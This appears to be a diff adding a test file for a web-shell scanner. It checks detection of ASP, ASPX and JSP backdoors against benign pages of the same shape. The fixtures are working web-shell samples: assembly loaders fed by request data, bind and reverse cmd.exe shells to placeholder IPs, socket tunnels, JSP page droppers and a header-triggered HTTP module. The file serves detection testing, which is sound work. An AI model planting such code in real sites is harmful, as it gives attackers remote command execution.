@@ -1,0 +1,394 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { createScanner } from './scanner.js';
+
+// Session 29: the red team's open evasions of session 28 (bench/redteam/README-s28.md, S28R-7 to
+// S28R-36), each written again by us, the rules widened to their routes; beside them, pages of the
+// same shapes that are not shells. The file's path matters: App_Code's C# and VB are ASP.NET code.
+const scanner = createScanner({});
+const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
+
+// [what, the rule that must be among the findings, path, the file]
+const MALICIOUS: [string, string, string, string][] = [
+  ['classic ASP (VBScript) decoding a form field with MSXML and loading it through COM AppDomain.Load_3 (S28R-7)', 'mamori_asp_com_dotnet_loader', '/www/r07.asp', `<%
+Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
+x.DataType = "bin.base64"
+x.Text = Request.Form("d")
+raw = x.NodeTypedValue
+Set d = CreateObject("System.AppDomain").CurrentDomain
+Set asm = d.Load_3(raw)
+asm.CreateInstance("Q").Equals(Nothing)
+%>
+`],
+  ['the application domain kept in a variable, then its Load given the decoded form field (S28R-8)', 'mamori_aspx_assembly_load', '/www/r08.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var dom = AppDomain.CurrentDomain;
+  byte[] b = Convert.FromBase64String(Request.Form["k"]);
+  dom.Load(b).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['Thread.GetDomain().Load of decoded request bytes (S28R-9)', 'mamori_aspx_assembly_load', '/www/r09.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  byte[] b = Convert.FromBase64String(Request.Form["k"]);
+  System.Threading.Thread.GetDomain().Load(b).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['Assembly.Load of Base64 read by Context.Request.Form.Get (S28R-10)', 'mamori_aspx_assembly_load', '/www/r10.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  System.Reflection.Assembly.Load(Convert.FromBase64String(Context.Request.Form.Get("k"))).CreateInstance("U").Equals(Context);
+}
+</script>
+`],
+  ['classic ASP (JScript) naming the COM overload in pieces, d["Load_" + 3] (S28R-11)', 'mamori_asp_com_dotnet_loader', '/www/r11.asp', `<%@ Language="JScript" %>
+<%
+var x = Server.CreateObject("MSXML2.DOMDocument").createElement("b");
+x.dataType = "bin.base64"; x.text = Request.Form("d");
+var d = Server.CreateObject("System.AppDomain").CurrentDomain;
+var asm = d["Load_" + 3](x.nodeTypedValue);
+asm.CreateInstance("Q");
+%>
+`],
+  ['request bytes written to a temporary file, then Assembly.LoadFile (S28R-13)', 'mamori_aspx_request_assembly_file', '/www/r13.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  string p = System.IO.Path.GetTempFileName();
+  System.IO.File.WriteAllBytes(p, Convert.FromBase64String(Request.Form["k"]));
+  System.Reflection.Assembly.LoadFile(p).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['classic ASP deserializing the posted bytes with BinaryFormatter through COM, Deserialize_2 (DotNetToJScript, S28R-14)', 'mamori_asp_com_dotnet_loader', '/www/r14.asp', `<%
+Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
+x.DataType = "bin.base64" : x.Text = Request.Form("p")
+Set stm = CreateObject("System.IO.MemoryStream")
+stm.Write_2 x.NodeTypedValue, 0, LenB(x.NodeTypedValue)
+stm.Position = 0
+Set fmt = CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")
+Set d = fmt.Deserialize_2(stm)
+d.DynamicInvoke(Array()).CreateInstance("Q")
+%>
+`],
+  ['a bind shell: TcpListener, AcceptTcpClient, cmd.exe fed from the client (S28R-15)', 'mamori_aspx_socket_shell', '/www/r15.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
+  var c = l.AcceptTcpClient(); var ns = c.GetStream();
+  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
+  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
+  p.Start(); p.BeginOutputReadLine();
+  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
+}
+</script>
+`],
+  ['a reverse shell over new NetworkStream(socket) (S28R-16)', 'mamori_aspx_socket_shell', '/www/r16.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+  s.Connect(IPAddress.Parse("192.0.2.9"), 443);
+  var ns = new NetworkStream(s); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
+  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
+  p.Start(); p.BeginOutputReadLine();
+  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
+}
+</script>
+`],
+  ['a reverse shell whose streams are redirected through a variable in an initializer (S28R-17)', 'mamori_aspx_socket_shell', '/www/r17.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var tcp = new TcpClient(); tcp.Connect("192.0.2.7", 4444);
+  var ns = tcp.GetStream(); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  bool yes = true;
+  var psi = new ProcessStartInfo("cmd.exe") { UseShellExecute = false, RedirectStandardInput = yes, RedirectStandardOutput = yes };
+  var p = Process.Start(psi);
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data); p.BeginOutputReadLine();
+  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
+}
+</script>
+`],
+  ['a tunnel copying the request body into the stream (CopyTo) and the stream into the response', 'mamori_aspx_request_socket_tunnel', '/www/r18.ashx', `<%@ WebHandler Language="C#" Class="T" %>
+using System; using System.Web; using System.Net; using System.Net.Sockets;
+public class T : IHttpHandler {
+  public void ProcessRequest(HttpContext c) {
+    var t = new TcpClient(); t.Connect(c.Request.Headers["X-H"], int.Parse(c.Request.Headers["X-P"]));
+    var ns = t.GetStream();
+    c.Request.InputStream.CopyTo(ns);
+    byte[] buf = new byte[65536]; int n = ns.Read(buf, 0, buf.Length);
+    c.Response.OutputStream.Write(buf, 0, n);
+  }
+  public bool IsReusable { get { return false; } }
+}
+`],
+  ['a tunnel answering in hex (BitConverter.ToString) (S28R-19)', 'mamori_aspx_request_socket_tunnel', '/www/r19.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+  s.Connect(new IPEndPoint(IPAddress.Parse(Request.QueryString["h"]), int.Parse(Request.QueryString["p"])));
+  s.Send(Request.BinaryRead(Request.TotalBytes));
+  byte[] b = new byte[8192]; int n = s.Receive(b);
+  Response.Write(BitConverter.ToString(b, 0, n).Replace("-", ""));
+}
+</script>
+`],
+  ['a tunnel listening through TcpListener.Create (S28R-20)', 'mamori_aspx_request_socket_tunnel', '/www/r20.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  string op = Request.QueryString["op"];
+  if (op == "bind") { var l = TcpListener.Create(int.Parse(Request.QueryString["p"])); l.Start(); Application["s"] = l.AcceptSocket(); }
+  else if (op == "put") { ((Socket)Application["s"]).Send(Request.BinaryRead(Request.TotalBytes)); }
+  else { byte[] b = new byte[4096]; int n = ((Socket)Application["s"]).Receive(b); Response.BinaryWrite(b); }
+}
+</script>
+`],
+  ["a tunnel whose data comes as a form field's Base64 (S28R-21)", 'mamori_aspx_request_socket_tunnel', '/www/r21.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+  s.Connect(new IPEndPoint(IPAddress.Parse(Request.Form["h"]), int.Parse(Request.Form["p"])));
+  s.Send(Convert.FromBase64String(Request.Form["data"]));
+  byte[] b = new byte[8192]; int n = s.Receive(b);
+  Response.Write(Convert.ToBase64String(b, 0, n));
+}
+</script>
+`],
+  ['a tunnel writing with Response.Output.Write (S28R-22)', 'mamori_aspx_request_socket_tunnel', '/www/r22.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+  s.Connect(new IPEndPoint(IPAddress.Parse(Request.Headers["X-H"]), 3389));
+  s.Send(Request.BinaryRead(Request.TotalBytes));
+  byte[] b = new byte[8192]; int n = s.Receive(b);
+  Response.Output.Write(Convert.ToBase64String(b, 0, n));
+}
+</script>
+`],
+  ['a JSP dropper naming its page in new File(dir, "help.jsp") (S28R-23)', 'mamori_jsp_request_page_dropper', '/www/d23.jsp', `<%@ page import="java.io.*" %><%
+String body = request.getParameter("d");
+if (body != null) {
+  File dir = new File(application.getRealPath("/"));
+  FileOutputStream f = new FileOutputStream(new File(dir, "help.jsp"));
+  f.write(body.getBytes()); f.close(); out.print("ok");
+}
+%>
+`],
+  ['a JSP dropper naming its page with String.format("%d.jsp") (S28R-25)', 'mamori_jsp_request_page_dropper', '/www/d25.jsp', `<%@ page import="java.io.*" %><%
+String body = request.getParameter("d");
+String n = String.format("%d.jsp", System.currentTimeMillis() / 1000);
+FileOutputStream f = new FileOutputStream(application.getRealPath("/") + n); f.write(body.getBytes()); f.close(); out.print(n);
+%>
+`],
+  ['a JSP dropper naming its page with concat(".jsp") (S28R-26)', 'mamori_jsp_request_page_dropper', '/www/d26.jsp', `<%@ page import="java.io.*" %><%
+String body = request.getParameter("d");
+String n = "tmp".concat(".jsp");
+FileOutputStream f = new FileOutputStream(application.getRealPath("/") + n); f.write(body.getBytes()); f.close(); out.print(n);
+%>
+`],
+  ['a JSP dropper writing an uploaded part to a .jsp (Part.write, S28R-28)', 'mamori_jsp_request_page_dropper', '/www/d28.jsp', `<%@ page import="java.io.*" %><%
+javax.servlet.http.Part p = request.getPart("f");
+p.write(application.getRealPath("/") + "up" + System.nanoTime() + ".jsp");
+out.print("done");
+%>
+`],
+  ['a JSP dropper copying the request body to a .jsp (Files.copy, S28R-29)', 'mamori_jsp_request_page_dropper', '/www/d29.jsp', `<%@ page import="java.nio.file.*" %><%
+Path t = Paths.get(application.getRealPath("/"), "x" + new java.util.Random().nextInt(999) + ".jsp");
+Files.copy(request.getInputStream(), t);
+out.print(t.getFileName());
+%>
+`],
+  ['a JSP dropper using Files.writeString (S28R-30)', 'mamori_jsp_request_page_dropper', '/www/d30.jsp', `<%@ page import="java.nio.file.*" %><%
+String body = request.getParameter("d");
+Path t = Paths.get(application.getRealPath("/"), "x" + System.currentTimeMillis() + ".jsp");
+Files.writeString(t, body);
+out.print(t.getFileName());
+%>
+`],
+  ['a JSP dropper whose page comes in a header (S28R-31)', 'mamori_jsp_request_page_dropper', '/www/d31.jsp', `<%@ page import="java.io.*" %><%
+String body = request.getHeader("X-Data");
+String n = java.util.UUID.randomUUID() + ".jsp";
+FileOutputStream f = new FileOutputStream(application.getRealPath("/") + n); f.write(java.util.Base64.getDecoder().decode(body)); f.close(); out.print(n);
+%>
+`],
+  ['an App_Code HTTP module loading an assembly from the body on a secret header (S28R-32)', 'mamori_aspx_assembly_load', '/www/App_Code/Mod.cs', `using System; using System.Web; using System.Reflection;
+public class Mod : IHttpModule {
+  public void Init(HttpApplication app) { app.BeginRequest += (s, e) => {
+    var c = ((HttpApplication)s).Context;
+    if (c.Request.Headers["X-K"] == "7f3a") {
+      byte[] b = c.Request.BinaryRead(c.Request.ContentLength);
+      Assembly.Load(b).CreateInstance("P").Equals(c);
+      c.Response.End();
+    } }; }
+  public void Dispose() {}
+}
+`],
+];
+
+// Uploaders of a few lines, written other ways: suspicious.
+const UPLOADERS: [string, string, string][] = [
+  ["an uploader saving under Request.PhysicalApplicationPath and the client's name (S28R-36)", '/www/u36a.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Go(object s, EventArgs e) { if (f.HasFile) f.SaveAs(Request.PhysicalApplicationPath + f.FileName); }
+</script>
+<form runat="server"><asp:FileUpload id="f" runat="server" /><asp:Button runat="server" OnClick="Go" Text="Send" /></form>
+`],
+  ["an uploader copying Request.Files[0]'s stream to HostingEnvironment.MapPath and a form field's name (S28R-36)", '/www/u36b.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+  if (Request.Files.Count > 0) { var pf = Request.Files[0];
+    using (var o = System.IO.File.Create(System.Web.Hosting.HostingEnvironment.MapPath("~/") + Request.Form["name"])) pf.InputStream.CopyTo(o); }
+}
+</script>
+<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="name"><input type="submit"></form>
+`],
+];
+
+// [what, path, the file]: the same shapes, not shells.
+const BENIGN: [string, string, string][] = [
+  ['a whois page: a socket to port 43, the domain from the form, the answer written as text', '/www/whois.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net.Sockets" %><%@ Import Namespace="System.IO" %>
+<script runat="server">
+void Look(object o, EventArgs e) {
+  string domain = Request.Form["domain"];
+  var c = new TcpClient(); c.Connect("whois.iana.org", 43);
+  var s = c.GetStream(); var w = new StreamWriter(s); w.WriteLine(domain); w.Flush();
+  string text = new StreamReader(s).ReadToEnd();
+  Response.Write(Server.HtmlEncode(text));
+}
+</script>
+`],
+  ['a port checker writing the first bytes of a banner in hex', '/www/portcheck.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Check(object o, EventArgs e) {
+  string host = Request.Form["host"]; int port = int.Parse(Request.Form["port"]);
+  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+  try { s.Connect(host, port); byte[] b = new byte[64]; int n = s.Receive(b); Response.Write("open: " + BitConverter.ToString(b, 0, n)); }
+  catch { Response.Write("closed"); } finally { s.Close(); }
+}
+</script>
+`],
+  ['an App_Code helper running an image converter with a size from the query string', '/www/App_Code/Thumbs.cs', `using System; using System.Diagnostics; using System.Web;
+public static class Thumbs {
+  public static void Make(HttpRequest req, string src, string dst) {
+    int w = int.Parse(req.QueryString["w"] ?? "128");
+    var p = new ProcessStartInfo("convert.exe", "\\"" + src + "\\" -resize " + w + " \\"" + dst + "\\"") { UseShellExecute = false, RedirectStandardError = true };
+    using (var pr = Process.Start(p)) { pr.WaitForExit(5000); }
+  }
+}
+`],
+  ['an App_Code VB data class with a parameterised query', '/www/App_Code/Data.vb', `Imports System.Data.SqlClient
+Public Class Data
+  Public Shared Function Names(ByVal q As String) As List(Of String)
+    Dim r As New List(Of String)
+    Using c As New SqlConnection(ConfigurationManager.ConnectionStrings("main").ConnectionString)
+      c.Open()
+      Dim cmd As New SqlCommand("select name from items where name like @q", c)
+      cmd.Parameters.AddWithValue("@q", q & "%")
+      Using rd = cmd.ExecuteReader()
+        While rd.Read() : r.Add(rd.GetString(0)) : End While
+      End Using
+    End Using
+    Return r
+  End Function
+End Class
+`],
+  ['a Global.asax registering routes and tracing errors', '/www/Global.asax', `<%@ Application Language="C#" %>
+<script runat="server">
+void Application_Start(object sender, EventArgs e) { System.Web.Routing.RouteTable.Routes.MapPageRoute("item", "item/{id}", "~/item.aspx"); }
+void Application_Error(object sender, EventArgs e) { var ex = Server.GetLastError(); System.Diagnostics.Trace.TraceError(ex.ToString()); }
+</script>
+`],
+  ["an import page loading posted Base64 into an XmlDocument beside the application domain's name", '/www/import.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  if (!IsPostBack) return;
+  byte[] b = Convert.FromBase64String(Request.Form["xml"]);
+  var doc = new System.Xml.XmlDocument(); doc.Load(new System.IO.MemoryStream(b));
+  var dom = AppDomain.CurrentDomain;
+  info.Text = dom.FriendlyName + " " + doc.DocumentElement.Name;
+}
+</script>
+`],
+  ["a Razor page loading a posted picture with an image library's Image.Load(bytes)", '/www/avatar.cshtml', `@page
+@using SixLabors.ImageSharp
+@functions {
+  public void OnPost() {
+    var img = Image.Load(Convert.FromBase64String(Request.Form["img"]));
+    img.Mutate(x => x.Resize(128, 128));
+    img.SaveAsPng(System.IO.Path.Combine("wwwroot/avatars", Guid.NewGuid().ToString("N") + ".png"));
+  }
+}
+<form method="post"><input type="hidden" name="img" /><button>Save</button></form>
+`],
+  ['a JSP publishing a checked page name as .html in a static folder', '/www/publish.jsp', `<%@ page import="java.io.*" %><%
+String page = request.getParameter("page");
+String html = request.getParameter("html");
+if (page != null && page.matches("[a-z0-9-]{1,40}") && html != null) {
+  try (Writer w = new OutputStreamWriter(new FileOutputStream(new File(application.getRealPath("/static"), page + ".html")), "UTF-8")) { w.write(html); }
+  response.sendRedirect("list.jsp");
+}
+%>
+`],
+];
+
+describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
+  for (const [name, rule, path, src] of MALICIOUS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
+    });
+  }
+  for (const [name, path, src] of UPLOADERS) {
+    it(`suspicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'suspicious', JSON.stringify(r.findings));
+      assert.ok(r.findings.some((f) => f.rule === 'mamori_asp_tiny_uploader'), JSON.stringify(r.findings));
+    });
+  }
+  for (const [name, path, src] of BENIGN) {
+    it(`clean: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'clean', JSON.stringify(r.findings));
+    });
+  }
+  it('App_Code\'s C# is read as ASP.NET code; the same module elsewhere is not', () => {
+    const mod = MALICIOUS.find(([, , p]) => p.endsWith('App_Code/Mod.cs'))![3];
+    assert.equal(scan(mod, '/www/App_Code/Mod.cs').kind, 'asp');
+    assert.equal(scan(mod, '/www/app_code/sub/Mod.cs').kind, 'asp');
+    assert.equal(scan(mod, 'C:\\inetpub\\site\\App_Code\\Mod.cs').kind, 'asp');
+    const elsewhere = scan(mod, '/home/dev/src/Mod.cs');
+    assert.equal(elsewhere.kind, 'other');
+    assert.ok(!elsewhere.findings.some((f) => f.rule.startsWith('mamori_asp')), JSON.stringify(elsewhere.findings));
+  });
+  it('a file whose judging throws is suspicious and says why, not clean', () => {
+    const data = Buffer.from('<%@ Page Language="C#" %><% Response.Write(1); %>', 'latin1');
+    // (the analysis reads the text through toString; the bytes are hashed without it)
+    data.toString = () => {
+      throw new Error('boom');
+    };
+    const r = scanner.scanBuffer(data, '/www/x.aspx');
+    assert.equal(r.verdict, 'suspicious');
+    assert.ok(r.findings.some((f) => f.rule === 'mamori:scan-failed' && f.description.includes('boom')), JSON.stringify(r.findings));
+    assert.match(r.sha256, /^[0-9a-f]{64}$/);
+  });
+  it('ran every case', () => {
+    assert.equal(MALICIOUS.length, 23);
+    assert.equal(UPLOADERS.length, 2);
+    assert.equal(BENIGN.length, 8);
+  });
+});
